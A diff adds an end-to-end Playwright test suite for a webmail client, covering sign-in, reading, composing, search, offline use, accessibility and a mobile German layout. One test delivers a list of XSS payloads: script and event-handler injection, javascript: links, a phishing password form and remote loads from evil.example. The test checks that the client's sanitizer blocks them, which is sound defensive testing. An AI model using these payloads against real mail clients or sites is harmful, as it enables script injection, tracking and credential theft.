@@ -1,0 +1,204 @@
+// The full client in Chromium, against a server of its own: what a person does in a day.
+
+import assert from "node:assert/strict";
+import { after, test } from "node:test";
+import { barriers, base, browser, deliver, open, row, signIn } from "./world.mjs";
+
+after(() => browser.close());
+
+const mail = (subject, body, more = "", kind = "text/plain") =>
+  `From: Mallory <mallory@elsewhere.example>\nTo: alice@example.com\nSubject: ${subject}\nMessage-ID: <${subject.replace(/\W/g, "")}@elsewhere.example>\nDate: Sat, 21 Nov 2026 10:00:00 +0000\nMIME-Version: 1.0\nContent-Type: ${kind}; charset=utf-8\n${more}\n${body}`;
+
+test("a wrong password is told, a right one opens the inbox, signing out ends it", async () => {
+  const page = await open();
+  await page.goto(base);
+  await page.fill("input[name=user]", "alice");
+  await page.fill("input[name=password]", "wrong");
+  await page.click("button.primary");
+  await page.waitForSelector("[role=alert]");
+  await page.fill("input[name=password]", "demo");
+  await page.click("button.primary");
+  await page.waitForSelector(".row .subject");
+  await page.click(".top .tool >> nth=-1");
+  await page.click("text=Sign out");
+  await page.waitForSelector("input[name=password]");
+  await page.goto(base);
+  await page.waitForSelector("input[name=password]");
+  assert.deepEqual(page.wrong, []);
+});
+
+test("mail that comes is shown by itself, read, flagged, filed and brought back", async () => {
+  const page = await open();
+  await signIn(page);
+  await deliver("mallory@elsewhere.example", "alice@example.com", mail("A line of news", "Something has happened.\n\n> quoted\n> words\n"));
+  await row(page, "A line of news").waitFor();
+  assert.match(await row(page, "A line of news").getAttribute("class"), /unread/);
+  await row(page, "A line of news").click();
+  await page.waitForSelector(".reader h1:has-text('A line of news')");
+  await page.waitForSelector("text=Something has happened.");
+  assert.equal(await page.locator("text=> words").count(), 0);
+  await page.click("text=Show quoted text");
+  await page.waitForSelector("text=> words");
+  await page.waitForFunction(() => !document.querySelector(".row.unread.at"));
+  await page.keyboard.press("s");
+  await row(page, "A line of news").locator(".flag").waitFor();
+  await page.keyboard.press("#");
+  await page.waitForSelector(".toast:has-text('moved to Trash')");
+  assert.equal(await page.locator(".row:has-text('A line of news')").count(), 0);
+  await page.click(".toast >> text=Undo");
+  await row(page, "A line of news").waitFor();
+  assert.deepEqual(page.wrong, []);
+});
+
+test("two browsers on one mailbox show the same", async () => {
+  const [one, two] = [await open(), await open()];
+  await signIn(one);
+  await signIn(two);
+  await deliver("mallory@elsewhere.example", "alice@example.com", mail("Seen by both", "x"));
+  await row(one, "Seen by both").waitFor();
+  await row(two, "Seen by both").click();
+  await one.waitForFunction(() => [...document.querySelectorAll(".row")].some((r) => r.textContent.includes("Seen by both") && !r.classList.contains("unread")));
+  await two.keyboard.press("e");
+  await one.waitForFunction(() => ![...document.querySelectorAll(".row")].some((r) => r.textContent.includes("Seen by both")));
+  assert.deepEqual([...one.wrong, ...two.wrong], []);
+});
+
+test("a message is written, kept as a draft, sent, taken back, sent again, and arrives", async () => {
+  const page = await open();
+  await signIn(page);
+  await page.keyboard.press("c");
+  await page.waitForSelector(".writer .ProseMirror");
+  await page.keyboard.type("bob@example.com,");
+  await page.fill(".writer .subject input", "Written in a browser");
+  await page.click(".writer .ProseMirror");
+  await page.keyboard.press("Control+b");
+  await page.keyboard.type("Bold");
+  await page.keyboard.press("Control+b");
+  await page.keyboard.type(" words, and attached a file");
+  await page.setInputFiles(".writer input[type=file]", { name: "notes.txt", mimeType: "text/plain", buffer: Buffer.from("the file") });
+  await page.waitForSelector(".writer .file:has-text('notes.txt')");
+  await page.waitForSelector(".writer >> text=Draft saved");
+  await page.click(".writer footer .primary");
+  await page.waitForSelector(".toast:has-text('Sent in')");
+  await page.click(".toast >> text=Undo");
+  await page.waitForSelector(".writer .ProseMirror >> text=words");
+  await page.keyboard.press("Control+Enter");
+  const bob = await open();
+  await signIn(bob, "bob");
+  await row(bob, "Written in a browser").waitFor({ timeout: 30_000 });
+  await row(bob, "Written in a browser").click();
+  await bob.waitForSelector(".file:has-text('notes.txt')");
+  const frame = bob.frameLocator("iframe").first();
+  assert.equal(await frame.locator("strong").textContent(), "Bold");
+  await page.click(".folder:has-text('Sent')");
+  await row(page, "Written in a browser").waitFor();
+  await page.click(".folder:has-text('Drafts')");
+  await page.waitForFunction(() => ![...document.querySelectorAll(".row")].some((r) => r.textContent.includes("Written in a browser")));
+  assert.deepEqual([...page.wrong, ...bob.wrong], []);
+});
+
+test("a search finds while one types, with operators, and marks what it found", async () => {
+  const page = await open();
+  await signIn(page);
+  await page.fill("#search", "cake");
+  await page.waitForSelector(".row mark:has-text('cake')");
+  await page.fill("#search", "subject:minutes -is:unread from:nobody");
+  await page.waitForSelector("text=Nothing found");
+  await page.fill("#search", "");
+  await page.waitForSelector(".bar h2:has-text('Inbox')");
+  assert.deepEqual(page.wrong, []);
+});
+
+test("hostile mail runs nothing, loads nothing and leaves the page alone", async () => {
+  const hostile = [
+    `<script>top.hacked=1</script><img src=x onerror="top.hacked=2"><svg onload="top.hacked=3"></svg>`,
+    `<a href="javascript:top.hacked=4">press</a><form action="https://evil.example"><input name=password><button>Sign in</button></form>`,
+    `<style>@import url(https://evil.example/a.css);body{background:url(https://evil.example/b.png)}</style><link rel=stylesheet href="https://evil.example/c.css">`,
+    `<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/"><img src="https://evil.example/pixel.gif"><img srcset="https://evil.example/s.png 2x">`,
+    `<div style="position:fixed;inset:0;background:url('https://evil.example/d.png')">cover</div><iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><video poster="https://evil.example/v.png"></video>`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.hacked=5&gt;">`,
+    `<input autofocus onfocus="top.hacked=6"><details open ontoggle="top.hacked=7"><marquee onstart="top.hacked=8">x</marquee>`,
+    `<div id="app"></div><div class="frame top">x</div><template><img src=x onerror="top.hacked=9"></template><td background="https://evil.example/e.png">`,
+  ];
+  const page = await open();
+  await signIn(page);
+  await deliver("mallory@elsewhere.example", "alice@example.com", mail("Hostile", hostile.join("\n<hr>\n"), "", "text/html"));
+  await row(page, "Hostile").click();
+  await page.waitForSelector("iframe");
+  await page.waitForTimeout(800);
+  assert.equal(await page.evaluate(() => window.hacked), undefined);
+  assert.deepEqual(page.foreign, []);
+  assert.equal(new URL(page.url()).origin, base);
+  const inside = page.frameLocator("iframe");
+  assert.equal(await inside.locator("script, style:not(head style), form, input, iframe, object, svg, [onerror], [srcset], a[href^=javascript]").count(), 0);
+  await page.click("text=Load pictures");
+  await page.waitForTimeout(800);
+  assert.deepEqual([...new Set(page.foreign)], ["https://evil.example/pixel.gif"]);
+  assert.equal(await page.evaluate(() => window.hacked), undefined);
+});
+
+test("without a network one reads, files and writes, and it is done when the network is back", async () => {
+  const page = await open();
+  await signIn(page);
+  await page.waitForTimeout(2500); // bodies of the newest are fetched ahead
+  await page.context().setOffline(true);
+  await row(page, "Minutes: garden party").click();
+  await page.waitForSelector(".reader .mail .body :text('three pieces'), .reader .mail .body :text('Present')");
+  await page.keyboard.press("e");
+  await page.waitForSelector(".banner");
+  await page.keyboard.press("c");
+  await page.waitForSelector(".writer .ProseMirror");
+  await page.keyboard.type("bob@example.com,");
+  await page.fill(".writer .subject input", "Written without a network");
+  await page.keyboard.press("Control+Enter");
+  await page.waitForSelector(".toast:has-text('Sent in')");
+  await page.waitForTimeout(9000);
+  await page.context().setOffline(false);
+  const bob = await open();
+  await signIn(bob, "bob");
+  await row(bob, "Written without a network").waitFor({ timeout: 30_000 });
+  await page.click(".folder:has-text('Archive')");
+  await row(page, "Minutes: garden party").waitFor();
+  assert.deepEqual(page.wrong, []);
+});
+
+test("nobody is kept out: no violation of WCAG 2.2 AA in the main screens, light and dark", async () => {
+  for (const dark of [false, true]) {
+    const page = await open({ dark });
+    await page.goto(base);
+    await page.waitForSelector("input[name=user]");
+    assert.deepEqual(await barriers(page), [], "signing in");
+    await signIn(page);
+    assert.deepEqual(await barriers(page), [], "list");
+    await row(page, "Welcome").click();
+    await page.waitForSelector(".mail .body");
+    await page.waitForTimeout(400);
+    assert.deepEqual(await barriers(page), [], "message");
+    await page.keyboard.press("c");
+    await page.waitForSelector(".writer .ProseMirror");
+    await page.waitForTimeout(400);
+    assert.deepEqual(await barriers(page), [], "writer");
+    await page.keyboard.press("Escape");
+    await page.waitForSelector(".writer", { state: "detached" });
+    await page.keyboard.press("?");
+    await page.waitForSelector("dialog[open]");
+    assert.deepEqual(await barriers(page), [], "help");
+    await page.context().close();
+  }
+});
+
+test("on a telephone, and in German", async () => {
+  const page = await open({ width: 390, height: 844, language: "de-DE" });
+  await signIn(page);
+  await page.waitForSelector("h2:has-text('Eingang')");
+  await row(page, "Welcome").click();
+  await page.waitForSelector(".reader h1");
+  assert.equal(await page.locator(".list").isVisible(), false);
+  await page.click("button[aria-label='Zurück']");
+  await page.waitForSelector(".list .row");
+  await page.click(".bar button[aria-label='Menü']");
+  await page.click(".side.open .folder:has-text('Gesendet')");
+  await page.waitForSelector("h2:has-text('Gesendet')");
+  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), true);
+  assert.deepEqual(page.wrong, []);
+});
